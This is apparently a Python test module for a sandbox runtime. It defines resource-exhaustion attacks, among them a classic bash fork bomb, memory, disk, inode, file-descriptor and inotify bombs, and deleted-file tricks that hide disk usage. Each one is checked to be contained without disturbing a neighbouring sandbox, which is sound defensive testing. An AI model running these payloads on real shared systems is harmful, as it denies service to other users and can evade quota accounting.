"""Attacks that try to use more than a sandbox's limits. Each must be stopped without an effect on
the neighbour, a second sandbox. An attack that nothing stops ends by itself at a few times the
limit."""

from dataclasses import replace

from policies.isolation import Isolation
from sandbox_runtime.errors import SandboxLostError
from sandbox_runtime.escape.context import (
    Attack,
    EscapeContext,
    NeighbourDisturbedError,
    run_python,
    running_python,
)

_PIDS, _MEMORY_MIB, _DISK_MIB, _OPEN_FILES, _DISK_MIB_PER_S = 64, 256, 64, 256, 8
"""Limits of the attacking sandbox."""
_MANY_PIDS, _MUCH_MEMORY_MIB, _MUCH_DISK_MIB, _MANY_OPEN_FILES = 512, 640, 256, 1024
_MANY_FILES = 20_000
_MANY_INOTIFY = 1024
_MANY_MIB_PER_S = 48
"""The amounts of the resources, from _MANY_PIDS on, that the programs use if nothing stops them."""

_FORKS = f"""
import os, signal
children = []
try:
    while len(children) < {_MANY_PIDS}:
        child = os.fork()
        if child == 0:
            signal.pause()
        children.append(child)
except OSError as error:
    print(error)
print(len(children), flush=True)
for child in children:
    os.kill(child, signal.SIGKILL)
"""
_THREADS = f"""
import _thread, os, time
made = 0
try:
    while made < {_MANY_PIDS}:
        _thread.start_new_thread(time.sleep, (60,))
        made += 1
except RuntimeError as error:
    print(error)
print(made, flush=True)
os._exit(0)
"""
_SHELLS = f"""
import os
os.execvp("bash", ["bash", "-c", '''
bomb() {{ bomb | bomb & }}
bomb 2>/testbed/refused
end=$((SECONDS + 15)) most=0 refused=
while [ $SECONDS -le $end ] && [ $most -le {_MANY_PIDS} ] && [ ! $refused ]; do
    [ -s /testbed/refused ] && refused=yes
    set -- /proc/[0-9]*
    [ $# -gt $most ] && most=$#
done
echo $most
'''])
"""
"""The classic fork bomb. It runs in the background while the first shell counts the processes
without forking, until a fork fails."""
_MEMORY = f"""
held = [b"x" * (1 << 20) for _ in range({_MUCH_MEMORY_MIB})]
print(len(held))
"""
_MEMORY_OF_MANY = f"""
import os, signal
signal.signal(signal.SIGCHLD, lambda *_: os._exit(1))
read, write = os.pipe()
children = []
for _ in range(8):
    child = os.fork()
    if child == 0:
        held = [b"x" * (1 << 20) for _ in range({_MUCH_MEMORY_MIB // 8})]
        os.write(write, b"x")
        signal.pause()
    children.append(child)
for _ in children:
    os.read(read, 1)
print({_MUCH_MEMORY_MIB}, flush=True)
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
for child in children:
    os.kill(child, signal.SIGKILL)
"""
_MEMORY_FILES = f"""
import os
written = 0
for folder in ("/dev/shm", "/dev"):
    try:
        with open(folder + "/bomb", "wb", buffering=0) as file:
            while written < {_MUCH_MEMORY_MIB}:
                if file.write(bytes(1 << 20)) < 1 << 20:
                    break
                written += 1
    except OSError as error:
        print(error)
print(written)
"""
_DESCRIPTORS = f"""
import os, resource
try:
    resource.setrlimit(resource.RLIMIT_NOFILE, ({2 * _MANY_OPEN_FILES}, {2 * _MANY_OPEN_FILES}))
except (OSError, ValueError) as error:
    print(error)
held = []
try:
    while len(held) < {_MANY_OPEN_FILES}:
        held.append(os.open("/dev/null", os.O_RDONLY))
except OSError as error:
    print(error)
print(len(held))
"""
_DISK = f"""
import os, socket, time
kept, (near, far) = [], socket.socketpair()
for number in range({_MUCH_DISK_MIB} // 16):
    path = f"/testbed/bomb-{{number}}"
    file = open(path, "wb", buffering=0)
    for _ in range(16):
        if file.write(bytes(1 << 20)) < 1 << 20:
            raise SystemExit("the disk is full")
    %s
time.sleep(STAY_S)
print({_MUCH_DISK_MIB})
"""
_KEPT_OPEN = "os.unlink(path); kept.append(file)"
_IN_FLIGHT = 'os.unlink(path); socket.send_fds(near, [b"x"], [file.fileno()]); file.close()'
"""A statement for _DISK that deletes the file and sends its only descriptor through a socket. While
the descriptor is in flight, no process has the file open."""
_ENGINE_FILES = f"""
import time
written = 0
for path in ("/etc/hosts", "/etc/hostname", "/etc/resolv.conf"):
    with open(path, "wb", buffering=0) as file:
        for _ in range({_DISK_MIB} - 1):
            if file.write(bytes(1 << 20)) < 1 << 20:
                raise SystemExit("the disk is full")
time.sleep(STAY_S)
print({_MUCH_DISK_MIB})
"""
"""A program that writes to the files that an engine mounts from the host. Each file alone stays
within the limit."""
_DISK_SPEED = """
import mmap, os, time
piece, file_mib = mmap.mmap(-1, 1 << 20), 4
def write(number):
    os.pwritev(file, [piece], number %% file_mib << 20)
    os.fdatasync(file)
def read(number):
    os.preadv(file, [piece], number %% file_mib << 20)
mounts = [line.split()[1:3] for line in open("/proc/mounts")]
kinds = [kind for point, kind in mounts if "/testbed".startswith(point.rstrip("/"))]
if kinds[-1] == "tmpfs":
    raise SystemExit("there is no disk here")
file = os.open("/testbed/bomb", os.O_RDWR | os.O_CREAT | os.O_DIRECT)
for number in range(file_mib):
    write(number)
moved, began = 0, time.monotonic()
while time.monotonic() < began + 1:
    %s(moved)
    moved += 1
print(int(moved / (time.monotonic() - began)))
"""
"""A program that measures the speed of the disk itself, without the page cache."""
INOTIFY = f"""
import ctypes, time
libc, made = ctypes.CDLL(None), 0
while made < {_MANY_INOTIFY} and libc.inotify_init() >= 0:
    made += 1
print("ready", flush=True)
time.sleep(60)
"""
ONE_INOTIFY = "import ctypes; print(ctypes.CDLL(None).inotify_init() >= 0)"
_FILES = f"""
import os, time
os.makedirs("/testbed/bomb")
os.chdir("/testbed/bomb")
for number in range({_MANY_FILES}):
    os.close(os.open(str(number), os.O_CREAT | os.O_WRONLY))
time.sleep(STAY_S)
print({_MANY_FILES})
"""


def _bomb(
    name: str,
    description: str,
    program: str,
    min_amount: int,
    unit: str,
    *,
    disk_mib_per_s: int | None = None,
    own_kernel_holds: bool = False,
) -> Attack:
    """Return an attack that runs `program` in a sandbox with small limits.

    The last word of the program's output is the amount that it used, in `unit`; the attack succeeds
    if that is at least `min_amount`. Without `disk_mib_per_s` the speed of the disk is not limited.
    """

    async def make(context: EscapeContext) -> str | None:
        await context.neighbour()
        isolation = replace(_with_small_limits(context.isolation), disk_mib_per_s=disk_mib_per_s)
        async with context.victim(isolation) as sandbox:
            try:
                result = await run_python(sandbox, f"STAY_S = {context.watch_s}\n{program}")
                printed = result.stdout.split()
            except SandboxLostError:
                printed = []  # the program ended with its sandbox
            if disturbance := await context.disturbance():
                raise NeighbourDisturbedError(disturbance)
        if printed and printed[-1].isdigit() and int(printed[-1]) >= min_amount:
            return f"it took {printed[-1]} {unit}"
        return None

    return Attack(name, "bombs", description, make, own_kernel_holds)


def _with_small_limits(isolation: Isolation) -> Isolation:
    return replace(
        isolation,
        pids=_PIDS,
        memory_mib=_MEMORY_MIB,
        disk_mib=_DISK_MIB,
        open_files=_OPEN_FILES,
    )


async def _use_inotify(context: EscapeContext) -> str | None:
    neighbour = await context.neighbour()
    before = (await run_python(neighbour, ONE_INOTIFY)).stdout
    async with context.victim() as sandbox, running_python(sandbox, INOTIFY):
        after = (await run_python(neighbour, ONE_INOTIFY)).stdout
    return "the neighbour sandbox cannot watch files any more" if before != after else None


ATTACKS = (
    _bomb("fork_bomb", "Makes processes that keep running.", _FORKS, _MANY_PIDS, "processes"),
    _bomb(
        "thread_bomb",
        "Makes threads that keep running.",
        _THREADS,
        _MANY_PIDS,
        "threads",
        own_kernel_holds=True,  # gVisor's threads are not the host's
    ),
    _bomb("shell_fork_bomb", "Makes shells that make shells.", _SHELLS, _MANY_PIDS, "processes"),
    _bomb("memory_bomb", "Fills memory.", _MEMORY, _MUCH_MEMORY_MIB, "MiB"),
    _bomb(
        "memory_bomb_of_many",
        "Fills memory, each process a little.",
        _MEMORY_OF_MANY,
        _MUCH_MEMORY_MIB,
        "MiB",
    ),
    _bomb(
        "memory_file_bomb",
        "Fills the file systems that lie in memory.",
        _MEMORY_FILES,
        _MUCH_MEMORY_MIB,
        "MiB",
    ),
    _bomb("open_file_bomb", "Opens files that stay open.", _DESCRIPTORS, _MANY_OPEN_FILES, "files"),
    _bomb("disk_bomb", "Fills the disk.", _DISK % "file.close()", _MUCH_DISK_MIB, "MiB of disk"),
    _bomb(
        "deleted_disk_bomb",
        "Fills the disk with files that it has deleted.",
        _DISK % _KEPT_OPEN,
        _MUCH_DISK_MIB,
        "MiB of disk",
    ),
    _bomb(
        "hidden_disk_bomb",
        "Fills the disk with deleted files that are only in flight in a socket.",
        _DISK % _IN_FLIGHT,
        _MUCH_DISK_MIB,
        "MiB of disk",
    ),
    _bomb(
        "engine_file_bomb",
        "Fills the disk through the engine's own files.",
        _ENGINE_FILES,
        _MUCH_DISK_MIB,
        "MiB of disk",
    ),
    _bomb(
        "disk_write_bomb",
        "Writes the disk as fast as it can.",
        _DISK_SPEED % "write",
        _MANY_MIB_PER_S,
        "MiB of disk a second",
        disk_mib_per_s=_DISK_MIB_PER_S,
    ),
    _bomb(
        "disk_read_bomb",
        "Reads the disk as fast as it can.",
        _DISK_SPEED % "read",
        _MANY_MIB_PER_S,
        "MiB of disk a second",
        disk_mib_per_s=_DISK_MIB_PER_S,
        own_kernel_holds=True,  # gVisor reads from the host's page cache
    ),
    _bomb("inode_bomb", "Makes empty files.", _FILES, _MANY_FILES, "files"),
    Attack(
        "inotify_bomb",
        "bombs",
        "Takes all inotify instances of its user on the host.",
        _use_inotify,
    ),
)
